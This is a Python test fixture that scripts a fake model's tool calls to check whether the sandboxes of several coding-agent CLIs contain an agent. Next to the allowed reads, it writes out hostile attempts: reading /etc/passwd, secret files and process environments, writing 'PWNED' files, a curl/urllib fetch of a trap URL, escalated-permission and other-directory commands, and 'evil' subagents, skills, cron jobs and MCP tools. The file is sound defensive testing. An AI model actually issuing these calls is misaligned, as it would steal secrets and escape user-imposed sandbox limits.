"""What the scripted model asks of each CLI: first what it may read, then everything that it must not get."""

from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from tests.fakes.model_server import Call

ALLOWED_WORD = "the-allowed-line"


@dataclass(frozen=True)
class Aims:
    """`view` may be read. `outside` (beside the view) and `private` (in the home) hold the secret. `trap` is a URL."""

    view: Path
    outside: Path
    private: Path
    trap: str

    @property
    def forbidden(self) -> list[str]:
        """Files that must not be read, relative and absolute."""
        return [
            f"../{self.outside.name}",
            str(self.outside),
            str(self.private),
            f"~/{self.private.name}",
            "/etc/passwd",
        ]

    @property
    def folders(self) -> list[str]:
        """Folders that must not be listed or searched."""
        return ["..", str(self.outside.parent), str(self.private.parent), "/etc"]

    @property
    def targets(self) -> list[str]:
        """Files that would be written, were writing possible."""
        return [str(folder / "PWNED-written") for folder in (self.view, self.outside.parent, self.private.parent)]

    @property
    def touch(self) -> str:
        return "; ".join(f"touch {target}" for target in self.targets)

    @property
    def fetch(self) -> str:
        return (
            f"curl -s {self.trap}/shell || python3 -c 'import urllib.request as u; u.urlopen(\"{self.trap}/python\")'"
        )


def _calls(tool: str, argument: str, values: list[str], **more: Any) -> list[Call]:
    return [Call(tool, {argument: value, **more}) for value in values]


def _claude(aims: Aims) -> list[Call]:
    view = aims.view
    return [
        *_calls("Read", "file_path", [str(view / "app.py"), str(view / "sub/mod.py")]),
        Call("Grep", {"pattern": ALLOWED_WORD, "output_mode": "content"}),
        *_calls("Read", "file_path", aims.forbidden),
        *_calls("Grep", "path", aims.folders, pattern="root|SECRET", output_mode="content"),
        *_calls("Glob", "pattern", ["/etc/host*", "../*", f"{aims.outside.parent}/*"]),
        *_calls("Write", "file_path", aims.targets, content="x"),
        Call("Edit", {"file_path": str(view / "app.py"), "old_string": "QUEUE", "new_string": "PWNED"}),
        Call("NotebookEdit", {"notebook_path": aims.targets[0], "new_source": "x"}),
        *_calls("Bash", "command", [aims.touch, f"cat {aims.outside}", aims.fetch, "git status"], description="x"),
        Call("WebFetch", {"url": f"{aims.trap}/fetch", "prompt": "x"}),
        Call("WebSearch", {"query": "x"}),
        *_calls("Agent", "prompt", [aims.touch], description="x", subagent_type="general-purpose"),
        *_calls("Task", "prompt", [aims.touch], description="x", subagent_type="evil"),
        Call("ExitPlanMode", {"plan": "x"}),
        Call("EnterWorktree", {}),
        *_calls("Skill", "skill", ["evil"]),
        Call("SlashCommand", {"command": "/evil"}),
        Call("mcp__evil__run", {}),
        Call("ListMcpResourcesTool", {}),
        Call("CronCreate", {"cron": "* * * * *", "prompt": aims.touch}),
    ]


def _gemini(aims: Aims) -> list[Call]:
    view = aims.view
    return [
        *_calls("read_file", "file_path", ["app.py", str(view / "sub/mod.py")]),
        Call("grep_search", {"pattern": ALLOWED_WORD}),
        Call("list_directory", {"dir_path": "."}),
        *_calls("read_file", "file_path", aims.forbidden),
        *_calls("list_directory", "dir_path", aims.folders),
        *_calls("grep_search", "dir_path", aims.folders, pattern="root|SECRET"),
        *_calls("glob", "pattern", ["/etc/host*", "../*", f"{aims.outside.parent}/*"]),
        *_calls("read_many_files", "include", [aims.forbidden[0], "/etc/passwd"]),
        *_calls("write_file", "file_path", aims.targets, content="x"),
        Call("replace", {"file_path": str(view / "app.py"), "old_string": "QUEUE", "new_string": "PWNED"}),
        Call("enter_plan_mode", {"reason": "x"}),
        Call("write_file", {"file_path": "plan.md", "content": "# Plan"}),
        Call("exit_plan_mode", {"plan_filename": "plan.md"}),
        *_calls("write_file", "file_path", aims.targets[:1], content="after the plan"),
        *_calls("run_shell_command", "command", [aims.touch, f"cat {aims.outside}", aims.fetch]),
        Call("web_fetch", {"prompt": f"Read {aims.trap}/fetch"}),
        Call("google_web_search", {"query": "x"}),
        *_calls("invoke_agent", "agent_name", ["codebase_investigator", "evil"], prompt="x"),
        Call("save_memory", {"fact": "x"}),
        Call("activate_skill", {"name": "evil"}),
        Call("mcp_evil_run", {}),
    ]


_PATCH = "*** Begin Patch\n*** Add File: PWNED-patched\n+x\n*** End Patch"


def _codex(aims: Aims) -> list[Call]:
    reads = ["cat app.py", f"cat {aims.view}/sub/mod.py", f"grep -rn {ALLOWED_WORD} ."]
    spies = [f"cat {path}" for path in aims.forbidden] + [f"grep -rn SECRET {folder}" for folder in aims.folders]
    names = ["ls -d /etc/host* ../*", f"ls {aims.outside.parent}", "env", "cat /proc/1/environ /proc/*/environ"]
    acts = [aims.touch, aims.fetch, f"apply_patch '{_PATCH}'", "git -C . commit --allow-empty -m x"]
    return [
        *_calls("exec_command", "cmd", [*reads, *spies, *names, *acts]),
        Call("exec_command", {"cmd": aims.touch, "sandbox_permissions": "require_escalated", "justification": "x"}),
        Call("exec_command", {"cmd": aims.touch, "with_escalated_permissions": True, "justification": "x"}),
        Call("exec_command", {"cmd": "pwd; touch PWNED-elsewhere", "workdir": str(aims.outside.parent)}),
        *_calls("shell", "command", [aims.touch]),
        Call("apply_patch", _PATCH),
        Call("apply_patch", {"input": _PATCH}),
        Call("view_image", {"path": str(aims.outside)}),
        Call("web_search", {"query": "x"}),
        Call("spawn_agent", {"message": aims.touch}),
        Call("update_plan", {"plan": []}),
        Call("request_user_input", {"questions": []}),
        Call("mcp__evil__run", {}),
        Call("list_mcp_resources", {}),
    ]


def _opencode(aims: Aims) -> list[Call]:
    view = aims.view
    return [
        *_calls("read", "filePath", ["app.py", str(view / "sub/mod.py")]),
        Call("grep", {"pattern": ALLOWED_WORD}),
        Call("glob", {"pattern": "**/*.py"}),
        *_calls("read", "filePath", aims.forbidden),
        *_calls("grep", "path", aims.folders, pattern="root|SECRET"),
        *_calls("glob", "pattern", ["/etc/host*", "../*", f"{aims.outside.parent}/*"]),
        *_calls("glob", "path", aims.folders, pattern="*"),
        *_calls("list", "path", aims.folders),
        *_calls("write", "filePath", aims.targets, content="x"),
        Call("edit", {"filePath": str(view / "app.py"), "oldString": "QUEUE", "newString": "PWNED"}),
        *_calls("patch", "patchText", [_PATCH]),
        *_calls("apply_patch", "patchText", [_PATCH]),
        *_calls("bash", "command", [aims.touch, f"cat {aims.outside}", aims.fetch], description="x"),
        Call("webfetch", {"url": f"{aims.trap}/fetch", "format": "text"}),
        *_calls("task", "subagent_type", ["general", "evil"], description="x", prompt=aims.touch),
        Call("skill", {"name": "evil"}),
        Call("plan_exit", {}),
        Call("todowrite", {"todos": []}),
        Call("evil", {}),
        Call("evil_run", {}),
    ]


def _copilot(aims: Aims) -> list[Call]:
    view = aims.view
    return [
        *_calls("view", "path", [str(view / "app.py"), str(view / "sub/mod.py")]),
        Call("grep", {"pattern": ALLOWED_WORD, "output_mode": "content"}),
        Call("glob", {"pattern": "**/*.py"}),
        *_calls("view", "path", [*aims.forbidden, *aims.folders]),
        *_calls("grep", "path", [*aims.folders, *aims.forbidden], pattern="root|SECRET", output_mode="content"),
        *_calls("glob", "pattern", ["/etc/host*", "../*", f"{aims.outside.parent}/*"]),
        *_calls("glob", "path", aims.folders, pattern="*"),
        *_calls("create", "path", aims.targets, file_text="x"),
        Call("edit", {"path": str(view / "app.py"), "old_str": "QUEUE", "new_str": "PWNED"}),
        Call("apply_patch", {"input": _PATCH}),
        *_calls("bash", "command", [aims.touch, f"cat {aims.outside}", aims.fetch, "ls -la"], description="x"),
        Call("web_fetch", {"url": f"{aims.trap}/fetch"}),
        *_calls("task", "agent_type", ["general-purpose", "evil"], description="x", prompt=aims.touch),
        Call("write_agent", {"agent_id": "x", "message": "x"}),
        Call("skill", {"skill": "evil"}),
        Call("exit_plan_mode", {"summary": "x"}),
        Call("sql", {"query": "select 1", "description": "x"}),
        Call("store_memory", {"fact": "x"}),
        Call("evil-run", {}),
        Call("github-mcp-server-search_code", {"query": "x"}),
    ]


ATTEMPTS: dict[str, Callable[[Aims], list[Call]]] = {
    "claude": _claude,
    "gemini": _gemini,
    "codex": _codex,
    "opencode": _opencode,
    "copilot": _copilot,
}
